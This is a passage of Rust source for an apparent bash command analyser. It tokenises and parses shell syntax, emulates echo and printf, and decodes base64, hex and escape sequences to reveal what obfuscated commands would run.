        "perl" | "ruby" | "node" | "nodejs" | "lua" => Some("-e"),
        "php" => Some("-r"),
        _ if name
            .strip_prefix("python")
            .is_some_and(|v| v.bytes().all(|c| c.is_ascii_digit() || c == b'.')) =>
        {
            Some("-c")
        }
        _ => None,
    }
}

fn reads_program_from_stdin(args: &[Arg]) -> bool {
    args.iter().all(|a| {
        a.text == "-"
            || (a.text.starts_with('-')
                && !matches!(a.text.as_str(), "-c" | "-e" | "-E" | "-r" | "-m"))
    })
}

/// `echo [-neE] words…` as bash's builtin prints it (escapes only with `-e`).
fn echo(args: &[Arg]) -> Value {
    let mut newline = true;
    let mut escapes = false;
    let flags = args
        .iter()
        .take_while(|a| {
            a.text.len() > 1
                && a.text.starts_with('-')
                && a.text[1..].bytes().all(|c| matches!(c, b'n' | b'e' | b'E'))
        })
        .count();
    for flag in args[..flags].iter().flat_map(|a| a.text.bytes()) {
        match flag {
            b'n' => newline = false,
            b'e' => escapes = true,
            b'E' => escapes = false,
            _ => {}
        }
    }
    let words = join(&args[flags..]);
    let (mut bytes, stopped) = if escapes {
        escape::decode(words.as_bytes(), escape::Dialect::Echo)
    } else {
        (words.into_bytes(), false)
    };
    if newline && !stopped {
        bytes.push(b'\n');
    }
    Value::new(lossy(&bytes), "echo")
}

/// `printf FORMAT args…`; `printf -v VAR` prints nothing.
fn printf(args: &[Arg]) -> Option<Value> {
    let args = match args.first() {
        Some(a) if a.text == "--" => &args[1..],
        _ => args,
    };
    let (format, rest) = args.split_first()?;
    if format.text == "-v" {
        return None;
    }
    Some(Value::new(
        render_printf(format.text.as_bytes(), rest),
        "printf",
    ))
}

/// printf(1) output: the format is applied again while arguments remain.
fn render_printf(format: &[u8], args: &[Arg]) -> String {
    let mut out = Vec::new();
    let mut next = 0;
    loop {
        let before = next;
        let go_on = apply_format(format, args, &mut next, &mut out);
        if !go_on || next == before || next >= args.len() || out.len() > MAX_DECODED_BYTES {
            break;
        }
    }
    out.truncate(MAX_DECODED_BYTES);
    lossy(&out)
}

/// One pass of a printf format; false when `\c` ended all output.
fn apply_format(format: &[u8], args: &[Arg], next: &mut usize, out: &mut Vec<u8>) -> bool {
    let mut take = || {
        let arg = args.get(*next).map_or("", |a| a.text.as_str());
        *next += 1;
        arg
    };
    let mut i = 0;
    while i < format.len() {
        match format[i] {
            b'\\' => match escape::one(&format[i + 1..], escape::Dialect::Printf, out) {
                Some(used) => i += 1 + used,
                None => return false,
            },
            b'%' => {
                let conversion = format[i + 1..]
                    .iter()
                    .position(|c| !b"-+ #0123456789.".contains(c))
                    .map_or(format.len(), |n| i + 1 + n);
                match format.get(conversion) {
                    Some(b'%') => out.push(b'%'),
                    Some(b'b') => {
                        let (bytes, stop) =
                            escape::decode(take().as_bytes(), escape::Dialect::Echo);
                        out.extend_from_slice(&bytes);
                        if stop {
                            return false;
                        }
                    }
                    Some(b'c') => out.extend(
                        take()
                            .chars()
                            .next()
                            .map(String::from)
                            .unwrap_or_default()
                            .bytes(),
                    ),
                    Some(_) => out.extend_from_slice(take().as_bytes()),
                    None => out.push(b'%'),
                }
                i = conversion + 1;
            }
            c => {
                out.push(c);
                i += 1;
            }
        }
    }
    true
}

/// `base64 -d`, `base64 --decode`, `base64 -D`, `openssl base64 -d`, `openssl enc -base64 -d`,
/// reading standard input.
fn decodes_base64(args: &[Arg]) -> bool {
    let texts: Vec<&str> = args.iter().map(|a| a.text.as_str()).collect();
    match texts.as_slice() {
        ["base64", rest @ ..] => {
            let scan = launch::scan(args, &launch::BASE64);
            scan.has(&["d", "D", "decode"])
                && rest
                    .get(scan.first - 1)
                    .is_none_or(|operand| *operand == "-")
        }
        ["openssl", "base64", rest @ ..] => {
            rest.contains(&"-d") && rest.iter().all(|o| matches!(*o, "-d" | "-A"))
        }
        ["openssl", "enc", rest @ ..] => {
            rest.contains(&"-d")
                && rest.iter().any(|o| matches!(*o, "-a" | "-base64"))
                && rest
                    .iter()
                    .all(|o| matches!(*o, "-d" | "-a" | "-A" | "-base64"))
        }
        _ => false,
    }
}

/// `xxd -r -p` (plain hex back to bytes), reading standard input.
fn decodes_hex(args: &[Arg]) -> bool {
    let Some(("xxd", rest)) = args.split_first().map(|(f, r)| (f.text.as_str(), r)) else {
        return false;
    };
    let options = || rest.iter().map(|a| a.text.as_str());
    options().all(|o| o.starts_with('-'))
        && options().any(|o| o.starts_with("-r") || o == "-pr")
        && options().any(|o| o.starts_with("-p") || o == "-rp" || o == "-rps")
}

/// Lenient like `base64 -d`: whitespace ignored, padding optional. Anything else, or bytes that
/// are not text, means there is no payload.
fn decode_base64(text: &str) -> Option<String> {
    let mut out = Vec::with_capacity(text.len() / 4 * 3);
    let (mut acc, mut bits) = (0u32, 0u32);
    for c in text.bytes() {
        let sextet = match c {
            b'A'..=b'Z' => c - b'A',
            b'a'..=b'z' => c - b'a' + 26,
            b'0'..=b'9' => c - b'0' + 52,
            b'+' => 62,
            b'/' => 63,
            b'=' => break,
            c if c.is_ascii_whitespace() => continue,
            _ => return None,
        };
        acc = (acc << 6) | u32::from(sextet);
        bits += 6;
        if bits >= 8 {
            bits -= 8;
            out.push((acc >> bits) as u8);
            acc &= (1 << bits) - 1;
        }
    }
    String::from_utf8(out).ok().filter(|s| !s.is_empty())
}

fn decode_hex(text: &str) -> Option<String> {
    let mut out = Vec::with_capacity(text.len() / 2);
    let mut high: Option<u8> = None;
    for c in text.bytes() {
        if c.is_ascii_whitespace() {
            continue;
        }
        let nibble = (c as char).to_digit(16)? as u8;
        match high.take() {
            Some(h) => out.push(h << 4 | nibble),
            None => high = Some(nibble),
        }
    }
    String::from_utf8(out).ok().filter(|s| !s.is_empty())
}

fn reverse_lines(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for line in text.lines() {
        out.extend(line.chars().rev());
        out.push('\n');
    }
    out
}

// ---------------------------------------------------------------------------------------------

mod lex {
    //! Splits a line into words, operators and redirections as bash's tokenizer does. Quotes and
    //! escapes are removed here; variables and substitutions stay as pieces for expansion.

    use super::escape::{self, Dialect};
    use super::{MAX_DEPTH, is_name, lossy, lossy_owned};

    #[derive(Debug)]
    pub(super) enum Piece {
        /// Literal text, quotes and escapes removed. Empty for `''`, which still makes a word.
        Lit(String),
        /// `$NAME`, `${NAME}`, or a parameter never known here (`$1`, `${x:-y}`).
        Var {
            name: String,
            raw: String,
            quoted: bool,
        },
        Subst(Box<Subst>),
    }

    #[derive(Debug, Clone, Copy, PartialEq, Eq)]
    pub(super) enum SubstKind {
        /// `$( )` or backticks.
        Command,
        /// `<( )` or `>( )`.
        Process,
    }

    #[derive(Debug)]
    pub(super) struct Subst {
        /// As written, delimiters included.
        pub raw: String,
        pub kind: SubstKind,
        /// The body's tokens; None beyond the depth limit.
        pub tokens: Option<Vec<Token>>,
    }

    #[derive(Debug, Default)]
    pub(super) struct Word {
        pub pieces: Vec<Piece>,
        /// Bytes at the start typed without quotes or escapes: where `NAME=` and keywords must be.
        pub plain: usize,
    }

    impl Word {
        /// The text with variables and substitutions as written (heredoc delimiters, `env -S`).
        pub fn literal(&self) -> String {
            let mut text = String::new();
            for piece in &self.pieces {
                match piece {
                    Piece::Lit(t) => text.push_str(t),
                    Piece::Var { raw, .. } => text.push_str(raw),
                    Piece::Subst(sub) => text.push_str(&sub.raw),
                }
            }
            text
        }

        pub fn plain_text(&self) -> &str {
            match self.pieces.first() {
                Some(Piece::Lit(text)) => text.get(..self.plain).unwrap_or(""),
                _ => "",
            }
        }

        /// The word, when all of it was typed without quotes, escapes or expansions.
        pub fn plain_word(&self) -> Option<&str> {
            match self.pieces.as_slice() {
                [Piece::Lit(text)] if text.len() == self.plain => Some(text),
                _ => None,
            }
        }
    }

    #[derive(Debug, Clone, Copy, PartialEq, Eq)]
    pub(super) enum Op {
        /// `;`, `;;`, `;&`: a list separator.
        Semi,
        Amp,
        And,
        Or,
        /// `|` or `|&`.
        Pipe,
        Newline,
        LParen,
        RParen,
    }

    #[derive(Debug)]
    pub(super) struct Redir {
        /// With its descriptor, as written: `>`, `2>>`, `&>`, `<<<`, `>&`.
        pub op: String,
        /// For `<<` and `<<-`: the lines that followed, up to the delimiter.
        pub heredoc: Option<String>,
    }

    #[derive(Debug)]
    pub(super) enum Token {
        Word(Word),
        Op(Op),
        Redir(Redir),
    }

    /// Tokens of `src`, a script read at `depth` (substitutions inside are one level deeper).
    pub(super) fn tokenize(src: &str, depth: usize) -> Vec<Token> {
        Lexer {
            src: src.as_bytes(),
            pos: 0,
            depth,
        }
        .tokens(false)
    }

    /// Bytes that end an unquoted word.
    fn is_meta(c: u8) -> bool {
        matches!(
            c,
            b' ' | b'\t' | b'\r' | b'\n' | b';' | b'&' | b'|' | b'(' | b')' | b'<' | b'>'
        )
    }

    struct Lexer<'a> {
        src: &'a [u8],
        pos: usize,
        depth: usize,
    }

    impl Lexer<'_> {
        fn peek(&self) -> Option<u8> {
            self.src.get(self.pos).copied()
        }

        fn peek_at(&self, n: usize) -> Option<u8> {
            self.src.get(self.pos + n).copied()
        }

        fn eat(&mut self, c: u8) -> bool {
            let hit = self.peek() == Some(c);
            if hit {
                self.pos += 1;
            }
            hit
        }

        fn rest(&self) -> &[u8] {
            self.src.get(self.pos..).unwrap_or_default()
        }

        /// Index of the next `c` at or after the cursor, or the end of input.
        fn find(&self, c: u8) -> usize {
            self.rest()
                .iter()
                .position(|&b| b == c)
                .map_or(self.src.len(), |n| self.pos + n)
        }

        fn op(&mut self, len: usize, op: Op) -> Token {
            self.pos += len;
            Token::Op(op)
        }

        /// Tokens to the end of input or, when `nested`, to the `)` that closes a `$(`.
        fn tokens(&mut self, nested: bool) -> Vec<Token> {
            let mut out = Vec::new();
            let mut open = 0usize;
            let mut heredocs = Heredocs::default();
            while let Some(token) = self.next_token() {
                match &token {
                    Token::Op(Op::RParen) if nested && open == 0 => break,
                    Token::Op(Op::RParen) => open = open.saturating_sub(1),
                    Token::Op(Op::LParen) => open += 1,
                    Token::Op(Op::Newline) => heredocs.read_bodies(self, &mut out),
                    Token::Redir(redir) => heredocs.expect(out.len(), &redir.op),
                    Token::Word(word) => heredocs.delimiter(word),
                    Token::Op(_) => {}
                }
                out.push(token);
            }
            out
        }

        fn next_token(&mut self) -> Option<Token> {
            loop {
                while matches!(self.peek(), Some(b' ' | b'\t' | b'\r')) {
                    self.pos += 1;
                }
                let next = self.peek_at(1);
                return Some(match self.peek()? {
                    b'#' => {
                        self.pos = self.find(b'\n');
                        continue;
                    }
                    b'\\' if next == Some(b'\n') => {
                        self.pos += 2;
                        continue;
                    }
                    b'\n' => self.op(1, Op::Newline),
                    b';' => {
                        let mut len = 1 + usize::from(next == Some(b';'));
                        len += usize::from(self.peek_at(len) == Some(b'&'));
                        self.op(len, Op::Semi)
                    }
                    b'&' => match next {
                        Some(b'&') => self.op(2, Op::And),
                        Some(b'>') => self.redirect(),
                        _ => self.op(1, Op::Amp),
                    },
                    b'|' => match next {
                        Some(b'|') => self.op(2, Op::Or),
                        Some(b'&') => self.op(2, Op::Pipe),
                        _ => self.op(1, Op::Pipe),
                    },
                    b'(' => self.op(1, Op::LParen),
                    b')' => self.op(1, Op::RParen),
                    b'<' | b'>' if next != Some(b'(') => self.redirect(),
                    c if c.is_ascii_digit() && self.at_io_number() => self.redirect(),
                    _ => Token::Word(self.word()),
                });
            }
        }

        /// Digits directly followed by `<` or `>`: the descriptor of a redirection (`2>`).
        fn at_io_number(&self) -> bool {
            let digits = self
                .rest()
                .iter()
                .take_while(|c| c.is_ascii_digit())
                .count();
            matches!(self.peek_at(digits), Some(b'<' | b'>'))
        }

        fn redirect(&mut self) -> Token {
            let start = self.pos;
            while self.peek().is_some_and(|c| c.is_ascii_digit()) {
                self.pos += 1;
            }
            self.eat(b'&');
            if self.eat(b'<') {
                if self.eat(b'<') {
                    if !self.eat(b'<') {
                        self.eat(b'-');
                    }
                } else if !self.eat(b'&') {
                    self.eat(b'>');
                }
            } else if self.eat(b'>') && !self.eat(b'>') && !self.eat(b'&') {
                self.eat(b'|');
            }
            Token::Redir(Redir {
                op: lossy(&self.src[start..self.pos]),
                heredoc: None,
            })
        }

        fn word(&mut self) -> Word {
            let mut w = WordBuilder::default();
            while let Some(c) = self.peek() {
                match c {
                    b'<' | b'>' if self.peek_at(1) == Some(b'(') => {
                        self.substitution(&mut w, SubstKind::Process);
                    }
                    b'(' if w.is_assignment_prefix() => self.array(&mut w),
                    c if is_meta(c) => break,
                    b'\\' => self.backslash(&mut w),
                    b'\'' => self.single_quoted(&mut w),
                    b'"' => self.double_quoted(&mut w),
                    b'`' => self.backtick(&mut w),
                    b'$' => self.dollar(&mut w, false),
                    _ => {
                        w.plain(c);
                        self.pos += 1;
                    }
                }
            }
            w.finish()
        }

        fn backslash(&mut self, w: &mut WordBuilder) {
            self.pos += 1;
            match self.peek() {
                // A line continuation vanishes.
                Some(b'\n') => self.pos += 1,
                Some(c) => {
                    w.quoted(&[c]);
                    self.pos += 1;
                }
                None => {}
            }
        }

        fn single_quoted(&mut self, w: &mut WordBuilder) {
            self.pos += 1;
            let end = self.find(b'\'');
            w.quoted(&self.src[self.pos..end]);
            w.touch();
            self.pos = (end + 1).min(self.src.len());
        }

        fn double_quoted(&mut self, w: &mut WordBuilder) {
            self.pos += 1;
            w.touch();
            while let Some(c) = self.peek() {
                match c {
                    b'"' => {
                        self.pos += 1;
                        return;
                    }
                    b'\\' => match self.peek_at(1) {
                        Some(b'\n') => self.pos += 2,
                        Some(e @ (b'$' | b'`' | b'"' | b'\\')) => {
                            w.quoted(&[e]);
                            self.pos += 2;
                        }
                        _ => {
                            w.quoted(b"\\");
                            self.pos += 1;
                        }
                    },
                    b'$' => self.dollar(w, true),
                    b'`' => self.backtick(w),
                    _ => {
                        w.quoted(&[c]);
                        self.pos += 1;
                    }
                }
            }
        }

        fn dollar(&mut self, w: &mut WordBuilder, quoted: bool) {
            match self.peek_at(1) {
                Some(b'\'') if !quoted => self.ansi_c(w),
                Some(b'"') if !quoted => {
                    self.pos += 1;
                    self.double_quoted(w);
                }
                Some(b'(') if self.peek_at(2) == Some(b'(') => self.arithmetic(w),
                Some(b'(') => self.substitution(w, SubstKind::Command),
                Some(b'{') => self.braced_parameter(w, quoted),
                Some(c) if c == b'_' || c.is_ascii_alphabetic() => self.variable(w, quoted),
                Some(c) if c.is_ascii_digit() || b"@*#?$!-".contains(&c) => {
                    let raw = lossy(&self.src[self.pos..self.pos + 2]);
                    self.pos += 2;
                    w.piece(Piece::Var {
                        name: raw.clone(),
                        raw,
                        quoted,
                    });
                }
                _ => {
                    w.push(b'$', quoted);
                    self.pos += 1;
                }
            }
        }

        fn variable(&mut self, w: &mut WordBuilder, quoted: bool) {
            let start = self.pos + 1;
            let len = self.src[start..]
                .iter()
                .take_while(|c| c.is_ascii_alphanumeric() || **c == b'_')
                .count();
            let name = lossy(&self.src[start..start + len]);
            self.pos = start + len;
            w.piece(Piece::Var {
                raw: format!("${name}"),
                name,
                quoted,
            });
        }

        /// `${NAME}` is a variable; anything fancier (`${x:-y}`, `${#x}`) is never known here.
        fn braced_parameter(&mut self, w: &mut WordBuilder, quoted: bool) {
            let start = self.pos;
            self.pos += 2;
            let mut open = 1usize;
            while let Some(c) = self.peek() {
                self.pos += 1;
                match c {
                    b'{' => open += 1,
                    b'}' => {
                        open -= 1;
                        if open == 0 {
                            break;
                        }
                    }
                    _ => {}
                }
            }
            let raw = &self.src[start..self.pos];
            let inner = raw.get(2..raw.len().saturating_sub(1)).unwrap_or_default();
            let name = if open == 0 && is_name(inner) {
                lossy(inner)
            } else {
                lossy(raw)
            };
            w.piece(Piece::Var {
                name,
                raw: lossy(raw),
                quoted,
            });
        }

        fn ansi_c(&mut self, w: &mut WordBuilder) {
            self.pos += 2;
            let start = self.pos;
            while let Some(c) = self.peek() {
                match c {
                    b'\\' => self.pos += 2,
                    b'\'' => break,
                    _ => self.pos += 1,
                }
            }
            let end = self.pos.min(self.src.len());
            self.pos = (end + 1).min(self.src.len());
            w.quoted(&escape::decode(&self.src[start..end], Dialect::AnsiC).0);
            w.touch();
        }

        /// `$(( … ))` computes a number; it is kept as written.
        fn arithmetic(&mut self, w: &mut WordBuilder) {
            let start = self.pos;
            self.pos += 2;
            self.skip_parens();
            w.quoted(&self.src[start..self.pos]);
        }

        /// `a=(x y)`: an array literal stays part of the assignment word.
        fn array(&mut self, w: &mut WordBuilder) {
            let start = self.pos;
            self.pos += 1;
            self.skip_parens();
            w.quoted(&self.src[start..self.pos]);
        }

        /// `$( … )` or `<( … )`: the body is tokenized by a nested lexer, which stops at the
        /// closing `)`; past the depth limit only its extent is found.
        fn substitution(&mut self, w: &mut WordBuilder, kind: SubstKind) {
            let start = self.pos;
            self.pos += 2;
            let tokens = if self.depth < MAX_DEPTH {
                let mut inner = Lexer {
                    src: self.src,
                    pos: self.pos,
                    depth: self.depth + 1,
                };
                let tokens = inner.tokens(true);
                self.pos = inner.pos;
                Some(tokens)
            } else {
                self.skip_parens();
                None
            };
            w.piece(Piece::Subst(Box::new(Subst {
                raw: lossy(&self.src[start..self.pos]),
                kind,
                tokens,
            })));
        }

        /// Backticks: `\$`, `` \` `` and `\\` are unescaped, then the body is tokenized anew.
        fn backtick(&mut self, w: &mut WordBuilder) {
            let start = self.pos;
            self.pos += 1;
            let mut body = Vec::new();
            while let Some(c) = self.peek() {
                self.pos += 1;
                match c {
                    b'`' => break,
                    b'\\' => match self.peek() {
                        Some(e @ (b'$' | b'`' | b'\\')) => {
                            body.push(e);
                            self.pos += 1;
                        }
                        _ => body.push(b'\\'),
                    },
                    _ => body.push(c),
                }
            }
            let tokens = (self.depth < MAX_DEPTH).then(|| tokenize(&lossy(&body), self.depth + 1));
            w.piece(Piece::Subst(Box::new(Subst {
                raw: lossy(&self.src[start..self.pos]),
                kind: SubstKind::Command,
                tokens,
            })));
        }

        /// Moves past the `)` matching an already-consumed `(`, minding quotes and escapes.
        fn skip_parens(&mut self) {
            let mut open = 1usize;
            while let Some(c) = self.peek() {
                self.pos += 1;
                match c {
                    b'\\' => self.pos = (self.pos + 1).min(self.src.len()),
                    b'\'' => self.pos = (self.find(b'\'') + 1).min(self.src.len()),
                    b'(' => open += 1,
                    b')' => {
                        open -= 1;
                        if open == 0 {
                            return;
                        }
                    }
                    _ => {}
                }
            }
        }

        /// The lines after the current one up to `delimiter`, which is consumed too.
        fn heredoc_body(&mut self, delimiter: &str, strip_tabs: bool) -> String {
            let mut body = Vec::new();
            while self.pos < self.src.len() {
                let end = self.find(b'\n');
                let mut line = &self.src[self.pos..end];
                self.pos = (end + 1).min(self.src.len());
                while strip_tabs && let [b'\t', rest @ ..] = line {
                    line = rest;
                }
                if line == delimiter.as_bytes() {
                    break;
                }
                body.extend_from_slice(line);
                body.push(b'\n');
            }
            lossy(&body)
        }
    }

    /// Here-documents announced on the current line; their bodies follow its newline.
    #[derive(Default)]
    struct Heredocs {
        awaiting_delimiter: Option<(usize, bool)>,
        pending: Vec<(usize, String, bool)>,
    }

    impl Heredocs {
        fn expect(&mut self, index: usize, op: &str) {
            self.awaiting_delimiter = match op.trim_start_matches(|c: char| c.is_ascii_digit()) {
                "<<" => Some((index, false)),
                "<<-" => Some((index, true)),
                _ => None,
            };
        }

        fn delimiter(&mut self, word: &Word) {
            if let Some((index, strip_tabs)) = self.awaiting_delimiter.take() {
                self.pending.push((index, word.literal(), strip_tabs));
            }
        }

        fn read_bodies(&mut self, lexer: &mut Lexer, tokens: &mut [Token]) {
            for (index, delimiter, strip_tabs) in self.pending.drain(..) {
                let body = lexer.heredoc_body(&delimiter, strip_tabs);
                if let Some(Token::Redir(redir)) = tokens.get_mut(index) {
                    redir.heredoc = Some(body);
                }
            }
        }
    }

    /// Accumulates one word: literal bytes merge into one piece; expansions start new ones.
    #[derive(Default)]
    struct WordBuilder {
        pieces: Vec<Piece>,
        lit: Vec<u8>,
        plain: usize,
        quoted_yet: bool,
        /// Quotes were seen, so the word exists even if empty.
        touched: bool,
    }

    impl WordBuilder {
        fn plain(&mut self, c: u8) {
            if !self.quoted_yet {
                self.plain += 1;
            }
            self.lit.push(c);
        }

        fn quoted(&mut self, bytes: &[u8]) {
            self.quoted_yet = true;
            self.lit.extend_from_slice(bytes);
        }

        fn push(&mut self, c: u8, quoted: bool) {
            if quoted {
                self.quoted(&[c]);
            } else {
                self.plain(c);
            }
        }

        fn touch(&mut self) {
            self.quoted_yet = true;
            self.touched = true;
        }

        fn piece(&mut self, piece: Piece) {
            self.flush();
            self.quoted_yet = true;
            self.pieces.push(piece);
        }

        fn flush(&mut self) {
            if !self.lit.is_empty() {
                self.pieces
                    .push(Piece::Lit(lossy_owned(std::mem::take(&mut self.lit))));
            }
        }

        fn is_assignment_prefix(&self) -> bool {
            !self.quoted_yet
                && self.pieces.is_empty()
                && self.lit.last() == Some(&b'=')
                && std::str::from_utf8(&self.lit)
                    .ok()
                    .and_then(super::assignment)
                    .is_some()
        }

        fn finish(mut self) -> Word {
            self.flush();
            if self.pieces.is_empty() && self.touched {
                self.pieces.push(Piece::Lit(String::new()));
            }
            Word {
                pieces: self.pieces,
                plain: self.plain,
            }
        }
    }
}

mod parse {
    //! Groups tokens into pipelines of simple commands and `( )` / `{ }` groups. Control flow
    //! (`if`, `while`, `for`, `case`, functions) is flattened: only the commands inside matter.

    use super::lex::{Op, Token, Word};

    /// Groups nested deeper than this are read as if their parentheses were not there.
    const MAX_GROUP_DEPTH: usize = 16;

    #[derive(Debug)]
    pub(super) struct Pipeline {
        pub stages: Vec<Stage>,
    }

    #[derive(Debug)]
    pub(super) enum Stage {
        Simple(Simple),
        Group { brace: bool, body: Vec<Pipeline> },
    }

    #[derive(Debug, Default)]
    pub(super) struct Simple {
        pub words: Vec<Word>,
        pub redirects: Vec<Redirect>,
    }

    #[derive(Debug)]
    pub(super) struct Redirect {
        pub op: String,
        pub target: Option<Word>,
        pub heredoc: Option<String>,
    }

    pub(super) fn parse(tokens: Vec<Token>) -> Vec<Pipeline> {
        Parser {
            tokens: tokens.into_iter().peekable(),
            open_cases: 0,
        }
        .list(0, Closer::End)
    }

    #[derive(Debug, Clone, Copy, PartialEq, Eq)]
    enum Closer {
        End,
        Paren,
        Brace,
    }

    /// Reserved words, recognised only as the first word of a command.
    #[derive(Debug, Clone, Copy, PartialEq, Eq)]
    enum Keyword {
        /// `!`, `if`, `then`, `else`, `elif`, `do`, `while`, `until`: the command follows.
        Prefix,
        /// `fi`, `done`.
        End,
        Esac,
        OpenBrace,
        CloseBrace,
        /// `for NAME in …`, `select …`, `case WORD in`: no command here.
        Header,
        /// `function NAME`.
        Function,
    }

    fn keyword(word: &Word) -> Option<Keyword> {
        Some(match word.plain_word()? {
            "!" | "if" | "then" | "else" | "elif" | "do" | "while" | "until" => Keyword::Prefix,
            "fi" | "done" => Keyword::End,
            "esac" => Keyword::Esac,
            "{" => Keyword::OpenBrace,
            "}" => Keyword::CloseBrace,
            "for" | "select" | "case" => Keyword::Header,
            "function" => Keyword::Function,
            _ => return None,
        })
    }

    #[derive(Debug, Clone, Copy, PartialEq, Eq)]
    enum Next {
        End,
        Separator,
        Pipe,
        Open,
        Close,
        Keyword(Keyword),
        Command,
    }

    enum Parsed {
        Command(Simple),
        /// `name()`: a function definition; its body follows.
        FunctionName,
    }

    struct Parser {
        tokens: std::iter::Peekable<std::vec::IntoIter<Token>>,
        /// `case … in` not yet closed by `esac`: a `)` may end a pattern there.
        open_cases: usize,
    }

    impl Parser {
        fn next_kind(&mut self) -> Next {
            match self.tokens.peek() {
                None => Next::End,
                Some(Token::Op(Op::LParen)) => Next::Open,
                Some(Token::Op(Op::RParen)) => Next::Close,
                Some(Token::Op(Op::Pipe)) => Next::Pipe,
                Some(Token::Op(_)) => Next::Separator,
                Some(Token::Redir(_)) => Next::Command,
                Some(Token::Word(word)) => keyword(word).map_or(Next::Command, Next::Keyword),
            }
        }

        fn skip(&mut self) {
            self.tokens.next();
        }

        fn list(&mut self, depth: usize, closer: Closer) -> Vec<Pipeline> {
            let mut list = Vec::new();
            loop {
                match self.next_kind() {
                    Next::End => break,
                    Next::Close => {
                        self.skip();
                        if closer == Closer::Paren {
                            break;
                        }
                    }
                    Next::Keyword(Keyword::CloseBrace) if closer == Closer::Brace => {
                        self.skip();
                        break;
                    }
                    Next::Separator | Next::Pipe => self.skip(),
                    _ => {
                        let pipeline = self.pipeline(depth);
                        // `start|restart)` in a case: patterns, not commands.
                        let pattern = closer != Closer::Paren
                            && self.open_cases > 0
                            && self.next_kind() == Next::Close;
                        if pattern {
                            self.skip();
                        } else {
                            list.extend(pipeline);
                        }
                    }
                }
            }
            list
        }

        fn pipeline(&mut self, depth: usize) -> Option<Pipeline> {
            let mut stages = Vec::new();
            loop {
                stages.extend(self.stage(depth));
                if self.next_kind() != Next::Pipe {
                    break;
                }
                self.skip();
            }
            (!stages.is_empty()).then_some(Pipeline { stages })
        }

        /// One stage; consumes at least one token when the next one can start a command.
        fn stage(&mut self, depth: usize) -> Option<Stage> {
            loop {
                match self.next_kind() {
                    next @ (Next::Open | Next::Keyword(Keyword::OpenBrace)) => {
                        self.skip();
                        let brace = next != Next::Open;
                        if depth < MAX_GROUP_DEPTH {
                            let closer = if brace { Closer::Brace } else { Closer::Paren };
                            let body = self.list(depth + 1, closer);
                            return Some(Stage::Group { brace, body });
                        }
                    }
                    Next::Keyword(Keyword::Prefix) => self.skip(),
                    next @ Next::Keyword(Keyword::End | Keyword::Esac | Keyword::CloseBrace) => {
                        if next == Next::Keyword(Keyword::Esac) {
                            self.open_cases = self.open_cases.saturating_sub(1);
                        }
                        self.skip();
                        self.skip_redirects();
                        return None;
                    }
                    Next::Keyword(Keyword::Header) => self.skip_header(),
                    Next::Keyword(Keyword::Function) => {
                        self.skip();
                        self.skip();
                        self.skip_empty_parens();
                    }
                    Next::Command => match self.simple() {
                        Parsed::Command(simple) => return Some(Stage::Simple(simple)),
                        Parsed::FunctionName => {}
                    },
                    Next::End | Next::Separator | Next::Pipe | Next::Close => return None,
                }
            }
        }

        fn simple(&mut self) -> Parsed {
            let mut simple = Simple::default();
            loop {
                match self.tokens.peek() {
                    Some(Token::Word(_)) => {
                        if let Some(Token::Word(word)) = self.tokens.next() {
                            simple.words.push(word);
                        }
                    }
                    Some(Token::Redir(_)) => {
                        if let Some(Token::Redir(redir)) = self.tokens.next() {
                            let target = self.take_word();
                            simple.redirects.push(Redirect {
                                op: redir.op,
                                target,
                                heredoc: redir.heredoc,
                            });
                        }
                    }
                    Some(Token::Op(Op::LParen))
                        if simple.words.len() == 1 && simple.redirects.is_empty() =>
                    {
                        self.skip_empty_parens();
                        return Parsed::FunctionName;
                    }
                    _ => return Parsed::Command(simple),
                }
            }
        }

        fn take_word(&mut self) -> Option<Word> {
            match self.tokens.peek() {
                Some(Token::Word(_)) => match self.tokens.next() {
                    Some(Token::Word(word)) => Some(word),
                    _ => None,
                },
                _ => None,
            }
        }

        /// `done < file`: the loop's redirections belong to no command we report.
        fn skip_redirects(&mut self) {
            while matches!(self.tokens.peek(), Some(Token::Redir(_))) {
                self.skip();
                self.take_word();
            }
        }

        /// `for x in a b c`, `case $x in`: skipped up to the separator (or `in` for `case`).
        fn skip_header(&mut self) {
            let header = self.take_word();
            let is_case = header.is_some_and(|w| w.plain_word() == Some("case"));
            while let Some(word) = self.take_word() {
                if is_case && word.plain_word() == Some("in") {
                    self.open_cases += 1;
                    break;
                }
            }
        }

        fn skip_empty_parens(&mut self) {
            if matches!(self.tokens.peek(), Some(Token::Op(Op::LParen))) {
                self.skip();
                if matches!(self.tokens.peek(), Some(Token::Op(Op::RParen))) {
                    self.skip();
                }
            }
        }
    }
}

mod escape {
    //! Backslash escapes as `$'…'`, printf formats and `echo -e` decode them.

    #[derive(Debug, Clone, Copy, PartialEq, Eq)]
    pub(super) enum Dialect {
        /// `$'…'`: `\cX` is a control character, octal is `\NNN`.
        AnsiC,
        /// printf formats: octal is `\NNN`, `\c` stops output.
        Printf,
        /// `echo -e` and printf `%b`: octal is `\0NNN`, `\c` stops output.
        Echo,
    }

    /// Decodes every escape in `src`; `true` when `\c` cut the output short.
    pub(super) fn decode(src: &[u8], dialect: Dialect) -> (Vec<u8>, bool) {
        let mut out = Vec::with_capacity(src.len());
        let mut i = 0;
        while let Some(&c) = src.get(i) {
            if c == b'\\' {
                match one(&src[i + 1..], dialect, &mut out) {
                    Some(used) => i += 1 + used,
                    None => return (out, true),
                }
            } else {
                out.push(c);
                i += 1;
            }
        }
        (out, false)
    }

    /// Decodes the escape whose backslash precedes `rest` into `out`; returns how many bytes of
    /// `rest` it used, or None for `\c` (stop all output).
    pub(super) fn one(rest: &[u8], dialect: Dialect, out: &mut Vec<u8>) -> Option<usize> {
        let Some(&c) = rest.first() else {
            out.push(b'\\');
            return Some(0);
        };
        let byte = match c {
            b'a' => 0x07,
            b'b' => 0x08,
            b'e' | b'E' => 0x1b,
            b'f' => 0x0c,
            b'n' => b'\n',
            b'r' => b'\r',
            b't' => b'\t',
            b'v' => 0x0b,
            b'\\' => b'\\',
            b'\'' | b'"' | b'?' if dialect != Dialect::Echo => c,
            b'c' if dialect == Dialect::AnsiC => {
                let Some(&x) = rest.get(1) else {
                    out.extend_from_slice(b"\\c");
                    return Some(1);
                };
                out.push(x & 0x1f);
                return Some(2);
            }
            b'c' => return None,
            b'x' => return Some(1 + code_point(&rest[1..], 2, b"\\x", out, false)),
            b'u' => return Some(1 + code_point(&rest[1..], 4, b"\\u", out, true)),
            b'U' => return Some(1 + code_point(&rest[1..], 8, b"\\U", out, true)),
            b'0' if dialect == Dialect::Echo => {
                let (value, used) = number(&rest[1..], 8, 3);
                out.push(value as u8);
                return Some(1 + used);
            }
